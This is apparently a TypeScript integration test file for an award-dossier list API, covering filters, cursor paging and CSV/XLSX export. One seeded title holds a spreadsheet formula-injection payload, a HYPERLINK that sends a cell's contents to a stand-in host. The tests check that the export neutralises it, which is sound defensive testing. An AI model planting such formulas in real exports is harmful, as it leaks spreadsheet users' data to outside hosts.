import readXlsxFile from 'read-excel-file/node';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readCsv } from '#adapters/sheet-reader';
import { statusNames } from '#domain/lifecycle';
import { readZip } from '../support/zip-reader.ts';
import { removeSeeded, seedListed } from './lists-support.ts';
import { armFault, as, baseUrl, disarmFaults, type ErrorBody, type Fault } from './support.ts';

/**
 * Issue 26, item 3: the dossier list of the secretariat, the chair, the council and a unit — each filter, both
 * sorts in both orders, pages across a cursor, the export read back, and no Scan on the way. The file's years are
 * 2067 (filters), 2068 (pages and export) and 2069 (deadlines); its dossiers are written at known instants.
 */
interface Row { id: string; title: string; unitId: string; status: string; nominees: string[]; updatedAt: string; dueAt?: string; step?: string; overdue?: boolean }
type Page = { dossiers: Row[]; next?: string };

const hostileTitle = '=HYPERLINK("http://x.example/?"&A1,"Bấm") Bằng khen 2067 của xã An Bình';
const ids: Record<string, string> = {};
const paged: string[] = []; // 2068, newest first

beforeAll(async () => {
  const seeds = {
    A: { year: 2067, unitId: 'so-giao-duc', awardCode: 'chienSiThiDuaTinh', title: 'Đề nghị Chiến sĩ thi đua năm 2067 của Sở Giáo dục', nominees: ['Nguyễn Thị Hồng Nhung'], events: ['submit', 'passCompleteness'], at: '2067-03-01T01:00:00.000Z' },
    B: { year: 2067, unitId: 'so-giao-duc', awardCode: 'coThiDuaTinh', title: 'Cờ thi đua 2067: Trường THPT Chu Văn An', nominees: ['Trường THPT Chu Văn An'], events: ['submit', 'passCompleteness', 'appraiseEligible'], at: '2067-03-02T01:00:00.000Z' },
    C: { year: 2067, unitId: 'xa-an-binh', awardCode: 'coThiDuaTinh', title: 'Cờ thi đua 2067 của xã', nominees: ['Hợp tác xã Đồng Tâm'], events: ['submit', 'passCompleteness'], at: '2067-03-03T01:00:00.000Z' },
    D: { year: 2067, unitId: 'xa-an-binh', awardCode: 'bangKhenChuTichTinh', title: hostileTitle, nominees: ['Lê Văn Tám'], events: ['submit'], at: '2067-03-04T01:00:00.000Z' },
    E: { year: 2067, unitId: 'so-giao-duc', awardCode: 'chienSiThiDuaTinh', title: 'Bản nháp 2067 của Sở Giáo dục', nominees: ['Trần Thị Mai'], events: [], at: '2067-03-05T01:00:00.000Z' },
    F: { year: 2067, unitId: 'xa-tan-lap', awardCode: 'bangKhenChuTichTinh', title: 'Hồ sơ đã rút 2067', nominees: ['Phạm Văn Đức'], events: ['withdraw'], at: '2067-03-06T01:00:00.000Z' },
    // 2069: waiting steps with due dates, three of them past
    P1: { year: 2069, unitId: 'so-giao-duc', awardCode: 'chienSiThiDuaTinh', title: 'Hạn 2069 thẩm định quá hạn', nominees: ['Vũ Thị Lan'], events: ['submit', 'passCompleteness'], at: '2069-01-01T01:00:00.000Z', task: { step: 'appraisal', dueAt: '2026-11-02T16:59:59.999Z' } },
    P2: { year: 2069, unitId: 'xa-an-binh', awardCode: 'chienSiThiDuaTinh', title: 'Hạn 2069 thẩm định còn hạn', nominees: ['Đỗ Văn Hải'], events: ['submit', 'passCompleteness'], at: '2069-01-02T01:00:00.000Z', task: { step: 'appraisal', dueAt: '2030-01-05T16:59:59.999Z' } },
    P3: { year: 2069, unitId: 'xa-an-binh', awardCode: 'bangKhenChuTichTinh', title: 'Hạn 2069 bổ sung quá hạn', nominees: ['Ngô Thị Hoa'], events: ['submit', 'requestSupplement'], at: '2069-01-03T01:00:00.000Z', task: { step: 'supplement', dueAt: '2026-11-01T16:59:59.999Z' } },
    P4: { year: 2069, unitId: 'so-giao-duc', awardCode: 'coThiDuaTinh', title: 'Hạn 2069 Hội đồng còn hạn', nominees: ['Trường Tiểu học Kim Đồng'], events: ['submit', 'passCompleteness', 'appraiseEligible'], at: '2069-01-04T01:00:00.000Z', task: { step: 'council', dueAt: '2030-01-01T16:59:59.999Z' } },
    P5: { year: 2069, unitId: 'so-y-te', awardCode: 'bangKhenChuTichTinh', title: 'Hạn 2069 Chủ tịch quá hạn', nominees: ['Bác sĩ Lý Văn Phúc'], events: ['submit', 'passCompleteness', 'appraiseEligibleWithoutVote'], at: '2069-01-05T01:00:00.000Z', task: { step: 'chairDecision', dueAt: '2026-10-30T16:59:59.999Z' } },
  } as const;
  for (const [key, seed] of Object.entries(seeds)) ids[key] = (await seedListed(seed)).id;
  // 2068: 23 dossiers of one unit in two status partitions, a minute apart
  for (let i = 0; i < 23; i += 1) {
    const at = new Date(Date.parse('2068-05-01T00:00:00.000Z') + i * 60_000).toISOString();
    const { id } = await seedListed({ year: 2068, unitId: 'xa-tan-lap', awardCode: 'bangKhenChuTichTinh', title: `Trang 2068 số ${String(i + 1).padStart(2, '0')}`, nominees: [`Người thứ ${i + 1}`], events: i % 2 ? ['submit'] : ['submit', 'passCompleteness'], at });
    paged.unshift(id);
  }
}, 120_000);
afterAll(removeSeeded);

const list = async (user: string, query: string) => (await as(user)).get<Page & ErrorBody>(`/api/dossiers?${query}`);
const listIds = async (user: string, query: string) => {
  const res = await list(user, query);
  expect(res.status, JSON.stringify(res.body)).toBe(200);
  return res.body.dossiers.map((d) => d.id);
};
const of = (...keys: string[]) => keys.map((k) => ids[k]);

/** Every page of a list, following `next` until there is none. */
async function walk(user: string, query: string): Promise<{ ids: string[]; pages: number }> {
  const seen: string[] = [];
  let pages = 0;
  let cursor: string | undefined;
  do {
    const res = await list(user, `${query}${cursor ? `&cursor=${cursor}` : ''}`);
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    seen.push(...res.body.dossiers.map((d) => d.id));
    pages += 1;
    cursor = res.body.next;
  } while (cursor && pages < 50);
  return { ids: seen, pages };
}

async function download(user: string, query: string): Promise<{ status: number; type: string; bytes: Buffer }> {
  const res = await fetch(`${baseUrl}/api/dossiers?${query}`, { headers: { authorization: `Bearer ${(await as(user)).token}` } });
  return { status: res.status, type: res.headers.get('content-type') ?? '', bytes: Buffer.from(await res.arrayBuffer()) };
}

describe('the dossier list: filters', () => {
  it('the secretariat sees the dossiers being worked on by default, newest change first; never a draft', async () => {
    expect(await listIds('officer', 'year=2067')).toEqual(of('D', 'C', 'B', 'A'));
    expect(await listIds('officer', 'year=2067&order=asc')).toEqual(of('A', 'B', 'C', 'D'));
    expect(await listIds('officer', 'year=2067&status=all')).toEqual(of('F', 'D', 'C', 'B', 'A'));
  });
  it('filters by unit, award form, status and year', async () => {
    expect(await listIds('officer', 'year=2067&unit=so-giao-duc')).toEqual(of('B', 'A'));
    expect(await listIds('officer', 'year=2067&form=coThiDuaTinh')).toEqual(of('C', 'B'));
    expect(await listIds('officer', 'year=2067&status=UnderAppraisal')).toEqual(of('C', 'A'));
    expect(await listIds('officer', 'year=2067&status=Withdrawn')).toEqual(of('F'));
    expect(await listIds('officer', 'year=2067&unit=xa-an-binh&form=bangKhenChuTichTinh&status=Submitted')).toEqual(of('D'));
    const other = await listIds('officer', 'year=2068&status=all&limit=500');
    expect(other).toHaveLength(23);
    expect(other.some((id) => Object.values(ids).includes(id))).toBe(false);
  });
  it('finds words in the title or a nominee name, without case or diacritics', async () => {
    expect(await listIds('officer', 'year=2067&q=hong%20nhung')).toEqual(of('A'));
    expect(await listIds('officer', `year=2067&q=${encodeURIComponent('CHU VĂN AN')}`)).toEqual(of('B'));
    expect(await listIds('officer', 'year=2067&q=dong%20tam')).toEqual(of('C'));
    expect(await listIds('officer', 'year=2067&q=khong%20co%20ai')).toEqual([]);
  });
  it('the chair and a council member see what the secretariat sees', async () => {
    expect(await listIds('chair', 'year=2067')).toEqual(of('D', 'C', 'B', 'A'));
    expect(await listIds('member-1', 'year=2067&form=coThiDuaTinh')).toEqual(of('C', 'B'));
  });
  it("a unit lists only its own dossiers, drafts included, with the same filters; another unit's are refused", async () => {
    expect(await listIds('unit-a-officer', 'year=2067')).toEqual(of('E', 'B', 'A'));
    expect(await listIds('unit-a-officer', 'year=2067&status=Draft')).toEqual(of('E'));
    expect(await listIds('unit-a-officer', 'year=2067&q=ban%20nhap')).toEqual(of('E'));
    expect(await listIds('unit-a-officer', 'year=2067&order=asc&form=chienSiThiDuaTinh')).toEqual(of('A', 'E'));
    expect(await listIds('unit-a-officer', 'year=2067&unit=so-giao-duc')).toEqual(of('E', 'B', 'A'));
    const refused = await list('unit-a-officer', 'year=2067&unit=xa-an-binh');
    expect(refused.status).toBe(403);
    expect(refused.body.error.field).toBe('unit');
  });
  it('lists waiting dossiers by deadline, earliest first, each with its step and due date; overdue ones alone on request', async () => {
    const res = await list('officer', 'year=2069&sort=deadline');
    expect(res.status).toBe(200);
    expect(res.body.dossiers.map((d) => d.id)).toEqual(of('P5', 'P3', 'P1', 'P4', 'P2'));
    expect(res.body.dossiers.map((d) => [d.step, d.dueAt?.slice(0, 10), d.overdue])).toEqual([
      ['chairDecision', '2026-10-30', true], ['supplement', '2026-11-01', true], ['appraisal', '2026-11-02', true], ['council', '2030-01-01', false], ['appraisal', '2030-01-05', false],
    ]);
    expect(await listIds('officer', 'year=2069&sort=deadline&order=desc')).toEqual(of('P2', 'P4', 'P1', 'P3', 'P5'));
    expect(await listIds('officer', 'year=2069&overdue=true')).toEqual(of('P5', 'P3', 'P1'));
    expect(await listIds('officer', 'year=2069&overdue=true&order=desc')).toEqual(of('P1', 'P3', 'P5'));
    expect(await listIds('officer', 'year=2069&overdue=true&unit=xa-an-binh')).toEqual(of('P3'));
    expect(await listIds('officer', 'year=2069&overdue=true&status=UnderAppraisal')).toEqual(of('P1'));
    expect(await listIds('unit-b-officer', 'year=2069&sort=deadline')).toEqual(of('P3', 'P2'));
    expect(await listIds('unit-b-officer', 'year=2069&overdue=true')).toEqual(of('P3'));
    expect((await walk('officer', 'year=2069&sort=deadline&limit=2')).ids).toEqual(of('P5', 'P3', 'P1', 'P4', 'P2'));
  });
  it.each([
    ['status=Lost', 'status'],
    ['form=giayKhenGiamDoc', 'form'],
    ['year=20x7', 'year'],
    ['overdue=maybe', 'overdue'],
    ['sort=name', 'sort'],
    ['order=up', 'order'],
    ['limit=0', 'limit'],
    ['limit=501', 'limit'],
    ['q=', 'q'],
    ['unit=so%20giao%20duc', 'unit'],
    ['format=pdf', 'format'],
    ['cursor=!!', 'cursor'],
    ['cursor=abc', 'cursor'],
    ['overdue=true&sort=updated', 'sort'],
  ])('refuses %s with a 400 naming %s, in Vietnamese and English', async (query, field) => {
    const res = await list('officer', query);
    expect(res.status).toBe(400);
    expect(res.body.error.field).toBe(field);
    expect(res.body.error.message.vi).not.toBe('');
    expect(res.body.error.message.en).not.toBe('');
  });
});

describe('the dossier list: pages', () => {
  it('pages through 23 dossiers of two statuses in order, each once, in both orders', async () => {
    const desc = await walk('officer', 'year=2068&limit=5');
    expect(desc.ids).toEqual(paged);
    expect(desc.pages).toBe(5);
    const asc = await walk('officer', 'year=2068&limit=6&order=asc');
    expect(asc.ids).toEqual([...paged].reverse());
    // the unit's own list pages the same way
    expect((await walk('unit-c-officer', 'year=2068&limit=4')).ids).toEqual(paged);
    expect((await walk('unit-c-officer', 'year=2068&limit=10&order=asc')).ids).toEqual([...paged].reverse());
  });
  it('takes back only a cursor it gave, for the same order', async () => {
    const first = await list('officer', 'year=2068&limit=5');
    const next = first.body.next ?? '';
    expect(next).not.toBe('');
    // the same cursor, asked for the other order or sort, is not a position in that list
    expect((await list('officer', `year=2068&limit=5&order=asc&cursor=${next}`)).body.error.field).toBe('cursor');
    expect((await list('officer', `year=2068&limit=5&sort=deadline&cursor=${next}`)).body.error.field).toBe('cursor');
    // an edited cursor (another key shape) is refused
    const decoded = JSON.parse(Buffer.from(next, 'base64url').toString('utf8')) as Record<string, string>;
    const edited = Buffer.from(JSON.stringify({ ...decoded, after: 'STATUS#Awarded' })).toString('base64url');
    const extra = Buffer.from(JSON.stringify({ ...decoded, PK: 'UNITS' })).toString('base64url');
    for (const cursor of [edited, extra]) {
      const res = await list('officer', `year=2068&limit=5&cursor=${cursor}`);
      expect(res.status).toBe(400);
      expect(res.body.error.field).toBe('cursor');
    }
  });
});

describe('the dossier list: export', () => {
  it('exports what is filtered as CSV with Vietnamese headers, dd/mm/yyyy dates and formulas neutralised', async () => {
    const shown = (await list('officer', 'year=2067&status=all')).body.dossiers;
    const file = await download('officer', 'year=2067&status=all&format=csv');
    expect(file.status).toBe(200);
    expect(file.type).toMatch(/^text\/csv/);
    const text = file.bytes.toString('utf8');
    expect(text.startsWith('\uFEFF')).toBe(true);
    const rows = readCsv(text, 100).rows.map((r) => r.cells);
    expect(rows[0]).toEqual(['STT', 'Tên hồ sơ', 'Đơn vị trình', 'Danh hiệu thi đua, hình thức khen thưởng', 'Năm thi đua', 'Trạng thái', 'Người, tập thể được đề nghị', 'Ngày nộp', 'Ngày cập nhật', 'Hạn xử lý']);
    const body = rows.slice(1);
    expect(body).toHaveLength(shown.length);
    // the hostile title is written with a leading quote, so a spreadsheet shows it as text
    expect(body.map((r) => String(r[1]).replace(/^'(?==)/, ''))).toEqual(shown.map((d) => d.title));
    expect(body.find((r) => String(r[1]).includes('HYPERLINK'))?.[1]).toBe(`'${hostileTitle}`);
    const d = body.find((r) => String(r[1]).includes('HYPERLINK'))!;
    expect(d.slice(2, 9)).toEqual(['Ủy ban nhân dân xã An Bình', expect.stringContaining('Bằng khen'), '2067', statusNames.Submitted.vi, 'Lê Văn Tám', '04/03/2067', '04/03/2067']);
    // a unit's export holds its own dossiers only
    const own = readCsv((await download('unit-a-officer', 'year=2067&format=csv')).bytes.toString('utf8'), 100).rows.slice(1).map((r) => r.cells[1]);
    expect(own).toEqual((await list('unit-a-officer', 'year=2067')).body.dossiers.map((x) => x.title));
  });
  it('exports every page of what is filtered as XLSX, read back by an independent reader, text cells quote-prefixed', async () => {
    const file = await download('officer', 'year=2068&status=all&format=xlsx&limit=5');
    expect(file.status).toBe(200);
    expect(file.type).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    const [sheet] = await readXlsxFile(file.bytes, { trim: false });
    expect(sheet!.data[0]![0]).toBe('Danh sách hồ sơ đề nghị khen thưởng');
    expect(sheet!.data[1]![1]).toBe('Tên hồ sơ');
    const rows = sheet!.data.slice(2);
    expect(rows).toHaveLength(23);
    expect(rows.map((r) => r[0])).toEqual(Array.from({ length: 23 }, (_, i) => i + 1));
    expect(rows.map((r) => r[1])).toEqual(Array.from({ length: 23 }, (_, i) => `Trang 2068 số ${String(23 - i).padStart(2, '0')}`));
    expect(rows[0]!.slice(2, 9)).toEqual(['Ủy ban nhân dân xã Tân Lập', expect.stringContaining('Bằng khen'), 2068, statusNames.UnderAppraisal.vi, 'Người thứ 23', '01/05/2068', '01/05/2068']);
    // the hostile title in an XLSX: kept as typed, in a cell styled with Excel's quote prefix
    const hostile = await download('officer', 'year=2067&q=hyperlink&format=xlsx');
    const [h] = await readXlsxFile(hostile.bytes, { trim: false });
    expect(h!.data[2]![1]).toBe(hostileTitle);
    const zip = readZip(new Uint8Array(hostile.bytes));
    const styles = zip.get('xl/styles.xml')!.toString('utf8');
    const cell = /<c r="B3" s="(\d+)"/.exec(zip.get('xl/worksheets/sheet1.xml')!.toString('utf8'));
    const xfs = styles.slice(styles.indexOf('<cellXfs')).split('<xf ').slice(1);
    expect(xfs[Number(cell?.[1])]).toContain('quotePrefix="1"');
  });
});

describe('the dossier list: indexes only', () => {
  it('answers every filter, sort and export with Query on the indexes and no Scan', async () => {
    // Prepare: calls held 0 ms then passed on — armed only to count them (each one taken lowers the count)
    const faults = async () => ((await (await fetch(`${baseUrl}/_local/faults`)).json()) as { armed: Fault[] }).armed;
    await armFault({ service: 'dynamodb', operation: 'Scan', count: 100_000, delayMs: 0 });
    await armFault({ service: 'dynamodb', operation: 'Query', count: 100_000, delayMs: 0 });
    try {
      // Act
      for (const [user, query] of [
        ['officer', 'year=2067'], ['officer', 'status=all&q=tam'], ['officer', 'unit=xa-an-binh&form=coThiDuaTinh'], ['officer', 'sort=deadline'], ['officer', 'overdue=true&year=2069'],
        ['chair', ''], ['member-1', 'status=AwaitingCouncil'], ['unit-a-officer', ''], ['unit-b-officer', 'overdue=true'], ['officer', 'year=2068&format=csv'], ['unit-c-officer', 'format=xlsx'],
      ] as const) {
        const res = await fetch(`${baseUrl}/api/dossiers?${query}`, { headers: { authorization: `Bearer ${(await as(user)).token}` } });
        expect(res.status, `${user} ${query}`).toBe(200);
      }
      // Assess
      const armed = await faults();
      expect(armed.find((f) => f.operation === 'Scan')?.count).toBe(100_000);
      expect(armed.find((f) => f.operation === 'Query')?.count).toBeLessThan(100_000);
    } finally {
      await disarmFaults();
    }
  });
});
